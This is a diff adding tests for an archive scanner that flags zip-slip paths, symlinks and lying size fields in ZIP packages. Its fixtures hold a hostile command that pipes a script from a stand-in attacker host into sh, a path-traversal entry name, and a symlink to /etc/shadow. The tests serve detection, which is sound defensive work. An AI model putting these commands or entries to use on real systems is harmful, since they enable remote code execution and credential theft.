@@ -3,7 +3,7 @@ import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { listArchive, zipSlipReason } from '../../../src/core/snapshot/archive.js'
 import { tempDir } from '../../support/cli.js'
-import { handlerZip, hostileZip, makeZip, sha256Hex } from '../../support/seed.js'
+import { handlerZip, hostileZip, makeZip, sha256Hex, type ZipEntrySpec } from '../../support/seed.js'
 
 async function writeZip(bytes: Buffer): Promise<{ dir: string; path: string }> {
   const dir = await tempDir('fir-archive-')
@@ -108,5 +108,102 @@ describe('listArchive', () => {
     expect(zipSlipReason('a\\b')).toMatch(/backslash/)
     expect(zipSlipReason('a/b..c/d')).toBeUndefined()
     expect(zipSlipReason('node_modules/x/index.js')).toBeUndefined()
+  })
+})
+
+// A package whose hostile entries come last: a lie before them must not hide them.
+function tailHostileZip(first: ZipEntrySpec[] = []): Buffer {
+  return makeZip([
+    { name: 'index.py', data: 'def handler(e, c):\n    return 1\n' },
+    { name: 'app.py', data: 'x = 1\n'.repeat(30) },
+    ...first,
+    { name: '../../../../var/task/evil.sh', data: 'curl http://attacker.invalid | sh' },
+    { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
+  ])
+}
+
+/** Where each central directory record starts (as a well-formed end record says). */
+function centralRecords(zip: Buffer): number[] {
+  const end = zip.length - 22
+  let at = zip.readUInt32LE(end + 16)
+  const out: number[] = []
+  for (let i = 0; i < zip.readUInt16LE(end + 10); i++) {
+    out.push(at)
+    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
+  }
+  return out
+}
+
+function kindsOf(l: Awaited<ReturnType<typeof listArchive>>): string[] {
+  return l.problems.map((p) => `${p.kind}:${p.entry ?? ''}`)
+}
+
+const TAIL = ['index.py', 'app.py', '../../../../var/task/evil.sh', 'lnk']
+
+describe('listArchive: a lie in the central directory hides no entry', () => {
+  it('a stored entry whose two sizes differ by one byte is flagged, and the zip-slip and symlink after it still are', async () => {
+    // yauzl stops the whole directory at such an entry; unzip -l lists all four.
+    const { dir, path } = await writeZip(
+      makeZip([
+        { name: 'index.py', data: 'def handler(e,c):\n  return 1\n' },
+        { name: 'liar.bin', data: 'small', declaredUncompressedSize: 6 },
+        { name: '../../../../var/task/evil.sh', data: 'curl x|sh' },
+        { name: 'lnk', data: '/etc/shadow', mode: 0o120777, method: 'store' },
+      ]),
+    )
+    const l = await listArchive(path)
+    expect(l.entries.map((e) => e.name)).toEqual([
+      'index.py',
+      'liar.bin',
+      '../../../../var/task/evil.sh',
+      'lnk',
+    ])
+    expect(kindsOf(l)).toEqual([
+      'size-mismatch:liar.bin',
+      'zip-slip:../../../../var/task/evil.sh',
+      'symlink:lnk',
+    ])
+    expect(l.problems[0]!.detail).toMatch(/5 bytes stored and 6 bytes uncompressed/)
+    expect(l.entries[3]).toMatchObject({ type: 'symlink', linkTarget: '/etc/shadow' })
+    expect(l.entries[2]!.sha256).toBe(sha256Hex('curl x|sh'))
+    expect(l.error).toBeUndefined()
+    expect(await readdir(dir)).toEqual(['package.zip'])
+  })
+
+  it('a deflated entry whose data is longer or shorter than declared is flagged, and never inflated past its declared size', async () => {
+    const data = 'x = 1\n'.repeat(30)
+    for (const declared of [data.length - 1, data.length + 1]) {
+      const { path } = await writeZip(
+        tailHostileZip([{ name: 'liar.py', data, method: 'deflate', declaredUncompressedSize: declared }]),
+      )
+      const l = await listArchive(path)
+      expect(l.entries.map((e) => e.name)).toEqual([...TAIL.slice(0, 2), 'liar.py', ...TAIL.slice(2)])
+      expect(kindsOf(l)).toEqual([
+        'size-mismatch:liar.py',
+        'zip-slip:../../../../var/task/evil.sh',
+        'symlink:lnk',
+      ])
+      const liar = l.entries.find((e) => e.name === 'liar.py')!
+      if (declared < data.length) {
+        expect(l.problems[0]!.detail).toMatch(/inflates to more than the 179 bytes/)
+        expect(liar.sha256).toBeUndefined()
+      } else {
+        expect(l.problems[0]!.detail).toMatch(/holds 180 bytes, .* declares 181/)
+        expect(liar.sha256).toBe(sha256Hex(data))
+      }
+    }
+  })
+
+  it('a local header declaring other sizes than the central directory is flagged', async () => {
+    const zip = tailHostileZip()
+    const record = centralRecords(zip)[1]!
+    zip.writeUInt32LE(4096, zip.readUInt32LE(record + 42) + 22)
+    const l = await listArchive((await writeZip(zip)).path)
+    expect(kindsOf(l)).toEqual([
+      'size-mismatch:app.py',
+      'zip-slip:../../../../var/task/evil.sh',
+      'symlink:lnk',
+    ])
+    expect(l.problems[0]!.detail).toMatch(/local file header declares .* 4096 uncompressed/)
   })
 })
